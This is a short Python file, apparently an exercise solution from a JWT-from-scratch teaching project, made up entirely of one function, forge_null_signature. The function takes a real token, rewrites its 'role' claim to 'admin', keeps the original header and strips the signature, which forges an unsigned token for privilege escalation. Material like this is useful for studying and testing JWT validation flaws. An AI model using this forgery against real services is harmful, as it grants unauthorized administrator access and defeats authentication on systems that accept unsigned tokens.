"""With the given helpers; the header stays as it is, letter for letter."""

from jwt_from_scratch.encoding import b64u_decode, b64u_encode, json_dumps, json_loads_strict


def forge_null_signature(token: str) -> str:
    header, payload, _ = token.split(".")
    claims = json_loads_strict(b64u_decode(payload))
    claims["role"] = "admin"
    return f"{header}.{b64u_encode(json_dumps(claims))}."
